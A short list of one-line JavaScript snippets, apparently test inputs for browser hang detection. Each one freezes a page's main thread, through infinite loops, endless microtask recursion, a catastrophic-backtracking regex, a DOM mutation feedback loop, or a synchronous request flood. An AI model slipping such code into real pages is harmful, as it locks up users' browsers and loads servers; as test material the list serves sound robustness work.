while (true);
onload = () => { while (true); }
setTimeout(() => { for (;;) Math.random(); }, 50)
requestAnimationFrame(function again() { while (performance.now() % 1e9 >= 0); })
(function again() { Promise.resolve().then(again); })()
queueMicrotask(function again() { queueMicrotask(again); })
/(a+)+$/.test('a'.repeat(60) + 'b')
new MutationObserver(() => document.body.append('x')).observe(document.body, {childList: true}); document.body.append('y')
const it = (function* () { for (;;) yield 1; })(); for (const x of it);
for (;;) document.body.offsetTop, document.body.style.width = Math.random() * 99 + 'px'
onload = () => { for (;;) { const r = new XMLHttpRequest(); r.open('GET', '?' + Math.random(), false); try { r.send(); } catch {} } }
document.addEventListener('DOMContentLoaded', () => { while (true) new Date(); })
